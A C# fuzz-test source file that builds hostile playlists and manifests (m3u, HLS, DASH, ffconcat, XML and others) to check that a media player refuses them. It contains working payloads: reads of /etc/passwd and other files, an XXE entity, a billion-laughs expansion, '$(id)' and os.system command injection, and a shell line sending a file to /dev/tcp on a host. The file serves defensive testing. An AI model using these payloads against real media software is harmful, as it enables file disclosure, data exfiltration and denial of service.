using System.Text;

namespace CryApi.Fuzz.Tests;

/// <summary>
/// Playlists, manifests and scripts that make a media player open other files or addresses, alone and behind the magic of a format.
/// </summary>
internal static class TextFiles
{
    /// <summary>All of them.</summary>
    public static IReadOnlyList<HostileFile> All { get; } =
    [
        Text("m3u of a password file", _ => "#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"),
        Text("m3u of a sound file", bait => $"#EXTM3U\n#EXTINF:1,\n{bait.File}\n"),
        Text("HLS of an address", bait => Hls($"http://{bait.Host}/a.ts")),
        Text("HLS of a file", bait => Hls($"file://{bait.File}")),
        Text("HLS of a concatenation", bait => Hls($"concat:http://{bait.Host}/head.m3u8|file:///etc/passwd")),
        Text("HLS of a part of a file", bait => Hls($"subfile,,start,0,end,64,,:{bait.File}")),
        Text("HLS of a pipe", _ => Hls("pipe:0")),
        Text("HLS with a key", bait => Hls($"http://{bait.Host}/a.ts", "#EXT-X-KEY:METHOD=AES-128,URI=\"file:///etc/passwd\"\n")),
        Text("HLS with a map", bait => Hls($"file://{bait.File}", $"#EXT-X-MAP:URI=\"file://{bait.File}\"\n")),
        Text("nested HLS",
            bait => $"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{bait.Host}/b.m3u8\n#EXT-X-STREAM-INF:BANDWIDTH=2\nfile://{bait.File}\n"),
        Text("HLS with a byte order mark", bait => $"\uFEFF{Hls($"http://{bait.Host}/a.ts")}"),
        Text("concat line", bait => $"concat:{bait.File}|{bait.File}"),
        Text("ffconcat", bait => $"ffconcat version 1.0\nfile '{bait.File}'\n"),
        Text("ffconcat with options", bait => $"ffconcat version 1.0\nfile 'http://{bait.Host}/a.wav'\noption safe 0\n"),
        Text("ffmetadata", _ => ";FFMETADATA1\ntitle=$(id)\n[STREAM]\n"),
        Text("SDP",
            bait => $"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio {bait.Host.Split(':')[1]} RTP/AVP 0\n"),
        Text("DASH", bait => Dash($"http://{bait.Host}/a.mp4")),
        Text("DASH of a file", bait => Dash($"file://{bait.File}")),
        Text("pls", bait => $"[playlist]\nNumberOfEntries=1\nFile1={bait.File}\n"),
        Text("xspf",
            bait => $"<?xml version=\"1.0\"?><playlist version=\"1\"><trackList><track><location>file://{bait.File}</location></track></trackList></playlist>"),
        Text("XML that opens a file",
            bait => $"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file://{bait.File}\">]><MPD>&x;</MPD>"),
        Text("XML that multiplies", _ => Laughs()),
        Text("IMF", bait => $"<?xml version=\"1.0\"?><CompositionPlaylist xmlns=\"http://{bait.Host}/\"/>"),
        Text("AviSynth", bait => $"DirectShowSource(\"{bait.File}\")"),
        Text("VapourSynth", bait => $"import os\nos.system('cat {bait.File}')\n"),
        Text("Smooth Streaming",
            bait => $"<SmoothStreamingMedia><StreamIndex Url=\"http://{bait.Host}/{{start time}}\"/></SmoothStreamingMedia>"),
        Text("RealText", bait => $"<asx version=\"3.0\"><entry><ref href=\"http://{bait.Host}/a.wma\"/></entry></asx>"),
        Text("shell", bait => $"#!/bin/sh\ncat {bait.File} > /dev/tcp/{bait.Host.Replace(':', '/')}\n"),
        Text("options", _ => "-i /etc/passwd -f data -"),
        Text("image sequence", bait => $"{Path.GetDirectoryName(bait.File)}/%d.wav"),
        Text("lavfi", bait => $"amovie={bait.File}"),
        Behind("HLS behind an ID3 tag", [.. "ID3"u8, 4, 0, 0, 0, 0, 0, 0]),
        Behind("HLS behind an MP4 head", [0, 0, 0, 20, .. "ftypM4A \0\0\0\0M4A "u8]),
        Behind("HLS behind a QuickTime head", [0, 0, 0, 20, .. "ftypqt  \0\0\0\0qt  "u8]),
        Behind("HLS behind an Ogg head", [.. "OggS\0\u0002"u8]),
        Behind("HLS behind a FLAC head", [.. "fLaC"u8]),
        Behind("HLS behind an EBML head", [0x1A, 0x45, 0xDF, 0xA3, 0x80]),
        Behind("HLS behind an AMR head", [.. "#!AMR\n"u8]) with { Allowed = HostileFiles.Bearable },
        Behind("HLS behind a CAF head", [.. "caff\0\u0001\0\0"u8]),
        Behind("HLS behind an AU head", [.. ".snd\0\0\0\u0018"u8]),
        Behind("HLS behind an AIFF head", [.. "FORM\0\0\0\0AIFF"u8]),
        Behind("HLS behind a WAV head", [.. "RIFF\0\0\0\0WAVE"u8]),
    ];

    private static HostileFile Text(string name, Func<Bait, string> text) =>
        new(name, bait => Encoding.UTF8.GetBytes(text(bait)), HostileFiles.Refused);

    private static HostileFile Behind(string name, byte[] head) =>
        new(name, bait => [.. head, .. Encoding.UTF8.GetBytes(Hls($"file://{bait.File}"))], HostileFiles.Unusable);

    private static string Hls(string address, string before = "") =>
        $"#EXTM3U\n#EXT-X-VERSION:6\n#EXT-X-TARGETDURATION:10\n{before}#EXTINF:10.0,\n{address}\n#EXT-X-ENDLIST\n";

    private static string Dash(string address) => $"""
        <?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">
        <Period><AdaptationSet mimeType="audio/mp4">
        <Representation id="1" bandwidth="1"><BaseURL>{address}</BaseURL></Representation></AdaptationSet></Period></MPD>
        """;

    private static string Laughs()
    {
        var text = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE z [<!ENTITY a0 \"ha\">");
        for (var i = 1; i < 40; i++)
            text.Append(System.Globalization.CultureInfo.InvariantCulture, $"<!ENTITY a{i} \"&a{i - 1};&a{i - 1};&a{i - 1};\">");
        return text.Append("]><MPD>&a39;</MPD>").ToString();
    }
}
